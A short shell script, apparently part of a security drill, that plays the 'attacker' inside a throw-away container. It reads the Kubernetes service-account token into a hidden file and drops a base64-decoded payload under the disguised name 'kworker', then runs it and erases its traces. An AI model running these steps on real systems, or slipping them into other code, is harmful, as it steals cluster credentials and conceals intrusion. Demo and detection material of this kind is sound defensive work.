#!/bin/sh
# What the demo's "attacker" does inside the throw-away container.  Harmless: the token is a made-up
# one, the payload is drills/demo/payload.c, the only address is the demo's own loopback listener.
# $1: the payload in base64   $2: port of the listener
cat /var/run/secrets/kubernetes.io/serviceaccount/token >/tmp/.loot
mkdir -p /tmp/.cache
base64 -d "$1" >/tmp/.cache/kworker
chmod +x /tmp/.cache/kworker
/tmp/.cache/kworker "$2"
rm -f /tmp/.cache/kworker /tmp/.loot
rmdir /tmp/.cache
echo "nothing to see here"
